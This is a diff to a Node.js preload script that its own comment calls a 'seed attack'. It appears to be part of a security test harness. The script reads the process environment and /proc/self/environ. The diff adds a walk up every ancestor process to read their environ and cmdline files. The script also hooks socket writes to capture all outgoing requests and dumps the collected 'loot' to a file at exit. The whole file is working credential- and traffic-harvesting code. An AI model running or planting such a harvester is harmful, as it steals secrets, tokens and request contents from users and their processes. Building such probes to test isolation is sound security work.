@@ -1,10 +1,15 @@
-// The Node seed attack, preloaded with `node --import`: it takes the environment and
-// /proc/self/environ at start-up, hooks every socket write on the prototypes (so it sees each
+// The Node seed attack, preloaded with `node --import`: it takes the environment,
+// /proc/self/environ and every ancestor's environ and cmdline at start-up, hooks every socket write on the prototypes (so it sees each
 // request as it goes out, in whatever client), and writes its loot to HARVEST_OUT at exit.
 import { readFileSync, writeFileSync } from 'node:fs';
 import net from 'node:net';
 
-const loot = { env: { ...process.env }, proc_environ: readFileSync('/proc/self/environ', 'latin1'), wire: [] };
+const loot = { env: { ...process.env }, proc_environ: readFileSync('/proc/self/environ', 'latin1'), ancestors: [], wire: [] };
+// The parent (exec, the same OS user) and every ancestor: what the kernel shows of them.
+const read = (path) => { try { return readFileSync(path, 'latin1'); } catch (error) { return `!${error.code}`; } };
+for (let pid = process.ppid; pid > 1; pid = Number(read(`/proc/${pid}/stat`).replace(/^.*\) /s, '').split(' ')[1])) {
+  loot.ancestors.push({ pid, environ: read(`/proc/${pid}/environ`), cmdline: read(`/proc/${pid}/cmdline`) });
+}
 const capture = (chunk, encoding) => {
   if (typeof chunk === 'string') loot.wire.push(Buffer.from(chunk, typeof encoding === 'string' ? encoding : 'utf8').toString('latin1'));
   else if (chunk instanceof Uint8Array) loot.wire.push(Buffer.from(chunk).toString('latin1'));
